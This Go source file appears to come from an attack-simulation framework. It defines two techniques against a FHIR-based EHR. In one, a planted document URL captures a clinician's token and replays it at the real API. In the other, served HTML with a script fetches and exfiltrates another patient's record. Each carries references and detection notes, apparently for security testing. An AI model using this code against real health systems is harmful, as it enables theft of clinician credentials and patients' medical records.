package attacker

import (
	"context"
	"net/http"
	"slices"

	"thiefbox/sim/event"
)

var _ = register("F-27/reference", Technique{
	Variant: "followed",
	Title:   "A letter that lies at the thief's, fetched with the clinician's token",
	Story: "The thief files a letter in the record of a patient whom he and the clinician treat. Only its address stands there, and that is his. When she opens the patient's documents, " +
		"her EHR fetches it as it fetches all others: with her token. He shows the token at the real API.",
	Reads:    []string{"OWASP API10:2023", "OWASP API7:2023", "RFC 9700 s4.9.1", "FHIR R4 DocumentReference.content"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{OwnScope: documentScope},
	Evidence: "Where calls out of the client's network are logged, one to a host it was never set up for; at the API, tokens from an unknown address, with proofs for another host.",
	Run: func(ctx context.Context, g Ground) error {
		f := newFacade(g, "https://"+g.Target().OwnHost, g.Target().Issuer)
		if err := fileDocument(ctx, g, map[string]string{"contentType": "text/html", "title": "Letter", "url": f.base + "/letters/1"}); err != nil {
			return err
		}
		if err := g.Lure(g.Target().ClientRecord + g.Target().SharedPatient + "/documents"); err != nil {
			return err
		}
		asked := f.asked()
		if asked == nil {
			return ErrStopped
		}
		r := get(ctx, record(g, stranger(g)))
		for _, name := range []string{"Authorization", "Dpop"} {
			if v := asked.Header[name]; len(v) > 0 {
				r.Header[name] = slices.Clone(v)
			}
		}
		_, err := send(g, r)
		return err
	},
})

var _ = register("F-27/fetched", Technique{
	Variant: "fetched",
	Title:   "A letter that lies at the thief's, and runs in the page",
	Story: "The same letter, and this time it is there: HTML with a script in it. The API has never seen it and cannot look into it. The clinician's EHR fetches it for her and shows it as " +
		"part of its own page; the token that came along he does not even look at.",
	Reads:    []string{"OWASP API10:2023", "FHIR R4 DocumentReference.content", "SMART App Launch 2.2, App protection"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{PagesWithoutPolicy: true, OwnScope: documentScope},
	Beyond:   beyondContent,
	Evidence: "Where calls out of the client's network are logged, one to a host it was never set up for. At the client, a record fetched by a script (Sec-Fetch-Mode).",
	Run: func(ctx context.Context, g Ground) error {
		site := "https://" + g.Target().OwnHost
		g.Serve(g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/letters/1" {
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				_, _ = w.Write([]byte("<p>Dear colleague,</p>" + scriptElement(g)))
			}
		}))
		if err := fileDocument(ctx, g, map[string]string{"contentType": "text/html", "title": "Letter", "url": site + "/letters/1"}); err != nil {
			return err
		}
		s, err := lureToRead(g, "/documents")
		if err != nil {
			return err
		}
		page, err := s.Fetch(ctx, g.Target().ClientRecord+stranger(g))
		if err != nil {
			return err
		}
		return sendPage(ctx, g, s, page)
	},
})
